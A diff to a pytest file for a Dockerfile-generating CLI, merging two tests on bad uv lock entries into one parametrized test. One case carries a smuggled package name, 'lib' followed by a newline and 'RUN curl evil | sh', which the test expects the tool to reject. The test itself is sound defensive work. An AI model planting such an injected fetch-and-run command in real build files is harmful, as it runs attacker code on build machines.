@@ -1,5 +1,7 @@
 """Bad input: a one-line error naming the file and the problem, exit code 2, never a traceback."""
 
+import json
+
 import pytest
 from click.testing import CliRunner
 
@@ -147,43 +149,42 @@ def test_a_requirements_path_the_deps_step_cannot_install_is_an_error(make_proje
     assert message in result.output and result.output.count("\n") == 1
 
 
-def test_a_path_package_outside_the_project_is_an_error(make_project):
-    lock = (
-        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
-        '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "lib" }]\n\n'
-        '[package.metadata]\nrequires-dist = [{ name = "lib", directory = "../lib" }]\n\n'
-        '[[package]]\nname = "lib"\nversion = "1"\nsource = { directory = "../lib" }\n'
-    )
-    path = make_project(
-        {
-            "pyproject.toml": UV_PYPROJECT.replace("[]", '["lib"]') + '[tool.uv.sources]\nlib = { path = "../lib" }\n',
-            "uv.lock": lock,
-            "app.py": "print(1)\n",
-        }
-    )
-    result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
-    assert result.exit_code == 2, result.output
-    assert "uv.lock: installs lib from '../lib', which the build context cannot hold" in result.output
-
-
-def test_a_path_package_with_a_hostile_name_is_refused(make_project):
+def uv_project_with_path_package(make_project, name: str, directory: str):
+    """A uv app whose lock installs `name` from `directory` (written as uv would, but by hand)."""
     lock = (
         'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
         '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n'
-        'dependencies = [{ name = "lib\\nRUN curl evil | sh" }]\n\n'
-        '[[package]]\nname = "lib\\nRUN curl evil | sh"\nversion = "1"\nsource = { directory = "lib" }\n'
+        f"dependencies = [{{ name = {json.dumps(name)} }}]\n\n"
+        f'[[package]]\nname = {json.dumps(name)}\nversion = "1"\nsource = {{ directory = {json.dumps(directory)} }}\n'
     )
-    path = make_project(
+    return make_project(
         {
-            "pyproject.toml": UV_PYPROJECT.replace("[]", '["lib"]') + '[tool.uv.sources]\nlib = { path = "lib" }\n',
+            "pyproject.toml": UV_PYPROJECT.replace("[]", '["lib"]')
+            + f'[tool.uv.sources]\nlib = {{ path = "{directory}" }}\n',
             "uv.lock": lock,
             "lib/pyproject.toml": '[project]\nname = "lib"\nversion = "1"\n',
             "app.py": "print(1)\n",
         }
     )
+
+
+@pytest.mark.parametrize(
+    ("name", "directory", "message"),
+    [
+        ("lib", "../lib", "uv.lock: installs lib from '../lib', which the build context cannot hold"),
+        (
+            "lib\nRUN curl evil | sh",
+            "lib",
+            "uv.lock: locked package name 'lib\\nrun curl evil | sh' is not a valid name",
+        ),
+    ],
+    ids=["outside-the-project", "hostile-name"],
+)
+def test_a_path_package_the_dockerfile_cannot_take_is_an_error(make_project, name, directory, message):
+    path = uv_project_with_path_package(make_project, name, directory)
     result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
     assert result.exit_code == 2, result.output
-    assert "uv.lock: locked package name 'lib\\nrun curl evil | sh' is not a valid name" in result.output
+    assert message in result.output
 
 
 def test_the_summary_shows_control_characters_from_a_lock_as_escapes(make_project):
